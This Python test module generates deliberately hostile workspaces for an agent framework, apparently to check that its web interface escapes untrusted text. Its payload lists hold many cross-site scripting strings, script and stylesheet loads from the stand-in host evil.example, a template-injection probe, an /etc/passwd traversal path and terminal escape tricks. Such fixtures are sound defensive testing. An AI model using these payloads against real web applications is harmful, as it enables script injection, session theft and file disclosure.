"""Workspaces whose every text attacks the page that shows it: names, tasks, data, errors, questions, outputs."""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path
from typing import Any

import satchel
from satchel import Run, agent, step
from satchel.workspace.base.errors import SatchelError

HACK = "window.hacked=1;alert(1)"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HACK}'><script>{HACK}</script></svg>"

ATTACKS = (
    f"<script>{HACK}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT><script>{HACK}//",
    f"<img src=x onerror='{HACK}'>",
    f"<svg/onload={HACK}>",
    f"<svg><animate onbegin={HACK} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{HACK}</script>'></iframe>",
    f"<a href='javascript:{HACK}'>click</a>",
    f"[click](javascript:{HACK})",
    f"![x](x' onerror='{HACK})",
    f"javascript:{HACK}",
    f"<details open ontoggle={HACK}>",
    f"<input autofocus onfocus={HACK}>",
    f"' autofocus onfocus={HACK} x='",
    f'" autofocus onfocus={HACK} x="',
    f"<div hx-get='/' hx-trigger='load' hx-on:load='{HACK}' hx-on::after-swap='{HACK}'>x</div>",
    f"<form hx-post='/run/x/-/act/stop' hx-trigger='load'></form><hx-partial hx-target='body'><script>{HACK}</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    f"</textarea><script>{HACK}</script>",
    f"</title></style></noscript></template><script>{HACK}</script>",
    f"--><script>{HACK}</script><!--",
    f"]]><script>{HACK}</script>",
    f"\n\ndata: <script>{HACK}</script>\n\nevent: x\r\rdata: <img src=x onerror={HACK}>\n\n",
    "{{ 7 * 7 }}{% include 'layout.html' %}{{ self.__init__.__globals__ }}",
    f"&lt;script&gt;{HACK}&lt;/script&gt;&#60;img src=x onerror={HACK}&#62;",
    f"%3Cscript%3E{HACK}%3C/script%3E",
    f"\\u003cscript\\u003e{HACK}",
    "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b31m",
    "\u202eTXT.exe\u2066\u2069\u200f\u061c\u2028\u2029\ufeff",
    "a\0b\x01\x08\x7f\x85",
    "../../../../etc/passwd",
    "𝕳𝖆𝖈𝖐" * 50,
)

MARKDOWN = (
    f"[a](&#106;avascript:{HACK}) [b](data:text/html,<script>{HACK}</script>) [c][r]\n\n[r]: vbscript:{HACK}\n",
    f"![a](data:image/svg+xml,<svg/onload={HACK}>) ![b](//evil.example/x.png) ![c](https://evil.example/x.svg)",
    f"# x\n\n```html onload={HACK}\n<script>{HACK}</script>\n```\n\n|a|\n|-:|\n|<img src=x onerror={HACK}>|\n",
    f'<javascript:{HACK}> <https://evil.example/" onclick="{HACK}> ![x](outputs/vector.svg)',
)
"""For what the page shows as Markdown: messages and outputs."""


class Hostile:
    """One workspace after the other, each of another kind, from a seed."""

    def __init__(self, root: Path, seed: int):
        self.root, self.seed, self.random = root, seed, random.Random(seed)

    def text(self, most: int = 3) -> str:
        found = "".join(self.random.choices(ATTACKS, k=self.random.randint(1, most)))
        return (found * 2000)[:50_000] if self.random.random() < 0.01 else found

    def markdown(self) -> str:
        return "\n".join((self.text(), self.random.choice(MARKDOWN), self.text()))

    def quoted(self, most: int = 50_000) -> str:
        """A text as YAML has it, whose escapes are no halves of characters. A key has at most 1,024 characters."""
        return json.dumps("".join(each for each in self.text()[:most] if each < "\ud800"))

    def line(self) -> str:
        """A text that can be a task."""
        return " ".join("".join(each for each in self.text() if each.isprintable()).split()) or "x"

    def blocks(self) -> list[Any]:
        """A message as packages make them: each text in it attacks, and an SVG says that it is a PNG."""
        vector = base64.b64encode(SVG.encode()).decode()
        return [
            {"type": "text", "text": self.markdown()},
            {"type": "thinking", "thinking": self.markdown()},
            {"type": "tool_use", "name": self.text(1), "id": self.text(1), "input": {self.text(1): self.text()}},
            {"type": "tool_result", "tool_use_id": self.text(1), "content": self.text(), "is_error": True},
            {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{vector}"}},
            {"type": "image_url", "image_url": {"url": f"data:image/svg+xml;base64,{vector}"}},
            {"type": "image", "source": {"type": "url", "url": self.text(1)}},
            {"type": "image", "source": {"type": "url", "url": "https://evil.example/x.png"}},
        ]

    def name(self, number: int) -> str:
        """A text that can be the name of a folder."""
        found = "".join(each for each in self.text(2) if each not in "/\0\n\r").strip(" .")
        return f"{number}{found.encode()[:100].decode(errors='ignore')}".rstrip(" .")

    def source(self) -> str:
        """An agent that another run may be made with: what it says of itself attacks the form."""
        return (
            "from typing import Annotated, Literal\nfrom satchel import agent\n\n@agent\n"
            f"async def main(run, topic={self.text()!r}, kind: Literal[{self.text()!r}, 'x'] = 'x', "
            f"deep={[self.text(), {self.text(1): self.text()}]!r}, text: Annotated[str, {self.text()!r}] = ''):\n"
            f"    {self.text()!r}\n"
        )

    def make(self, number: int) -> None:
        folder = self.root / self.name(number)
        folder.mkdir(parents=True)
        other = Hostile(self.root, self.seed + number + 1)  # so that the rest stays as it is
        (folder / "agent.py").write_text(other.source())
        definition = folder / "workspace.yaml"
        if number % 8 == 7:
            broken = self.random.choice(
                (f"format: 1\n{self.text()}: {self.text()}\n", f"format: 1\nrun_id: {self.text()!r}")
            )
            definition.write_text(broken, errors="replace")
            return
        definition.write_text(
            f"format: 1\nrun_id: hostile\nagent: agent.py:main\nsettings:\n  # {other.line()}\n"
            f"  says: {other.quoted()}\n  many: [{other.quoted()}, {{{other.quoted(200)}: {other.quoted()}}}]\n"
        )
        handle = satchel.open(folder)
        kind = ("asks", "fails", "is paused", "completes", "is edited", "asks a schema", "conflicts")[number % 8]
        ended = handle.run(self._agent(kind))
        wanted = {"asks": "waiting", "asks a schema": "waiting", "fails": "failed", "is paused": "failed"}
        assert ended.status == wanted.get(kind, "completed"), ended
        if kind == "is edited":
            for file in ("todo.md", "state.json"):
                path = folder / file
                path.write_text(path.read_text().replace("last", self.line()), errors="replace")
            (folder / "todo.rejected.md").write_text(self.text(), errors="replace")
            (folder / "todo.rejected.txt").write_text(self.text(), errors="replace")
        elif kind == "conflicts":
            state = (folder / "state.json").read_text()
            (folder / "state.json").write_text(state.replace('"n": 1', '"n": 2').replace('"at"', '"was"'))
        elif kind == "is paused":
            handle.pause(reason=self.line(), by=self.line())
        try:
            handle.send(self.text(), message=True)
        except SatchelError:
            assert kind != "asks"

    def _agent(self, kind: str) -> Any:
        line, text = self.line, self.text

        @step
        def work(said: str) -> str:
            return said

        async def item(run: Run[Any], task: Any) -> None:
            run.state["n"] = 1
            run.messages.add(text(1), text())
            run.messages.add("assistant", self.blocks())
            run.state[text(1)] = {text(1): [text(), {"deep": text()}]}
            if kind == "asks":
                choices = [" ".join(text(2)[:5000].replace("\0", "").split()) + str(number) for number in range(3)]
                await run.ask(line(), choices, context={text(1)[:150]: text()}, wait_for=0)
            elif kind == "asks a schema":
                schema = {"type": "object", "title": line(), "description": text(), "properties": {line(): {}}}
                await run.ask(line(), schema=schema, context=text(), wait_for=0)
            run.state["said"] = await work(text())
            await run.output(f"{task.id}.md", self.markdown())
            await run.output("vector.svg", SVG)
            await run.output("false.png", SVG)
            await run.output(f"{task.id}-{''.join(each for each in line() if each.isalnum())[:40]}.html", text())

        @agent
        async def main(run: Run[Any]) -> Any:
            if not run.todo.items:
                await run.plan(line(), [line(), line(), "last"])
            await run.todo.each(item)
            if kind in ("fails", "is paused"):
                raise ValueError(text())
            return text()

        return main
